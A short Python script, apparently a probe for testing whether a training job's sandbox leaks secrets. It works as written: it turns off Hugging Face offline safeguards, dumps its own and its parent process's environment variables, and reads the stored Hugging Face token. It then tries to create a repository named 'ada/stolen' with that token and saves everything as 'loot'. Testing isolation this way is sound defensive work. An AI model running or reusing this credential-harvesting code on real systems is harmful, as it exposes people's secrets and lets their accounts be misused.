"""A trainer that looks for keys and tries to publish with them; what it got is in ``loot.json`` of its run."""

import json
import os
from pathlib import Path

# what a will to steal takes away first
for name in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE", "HF_HUB_DISABLE_IMPLICIT_TOKEN"):
    os.environ.pop(name, None)

import huggingface_hub  # noqa: E402 - it reads its environment when it is imported


def attempt(deed):
    try:
        return str(deed())
    except BaseException as error:
        return f"{type(error).__name__}"


def above():
    """The environment of the process that started this one."""
    return Path(f"/proc/{os.getppid()}/environ").read_bytes().decode(errors="replace").split("\0")


loot = {
    "own": [f"{name}={value}" for name, value in os.environ.items()],
    "runner": above(),
    "token": attempt(huggingface_hub.get_token),
    "created": attempt(lambda: huggingface_hub.create_repo("ada/stolen")),
    "asked": attempt(lambda: huggingface_hub.create_repo("ada/stolen", token=True)),
    "by path": attempt((Path(os.environ["HF_HOME"]) / "token").read_text),
}
sack = Path(os.environ["COCKPIT_RUN_DIR"]) / "loot.part"
sack.write_text(json.dumps(loot))
sack.rename(sack.with_suffix(".json"))
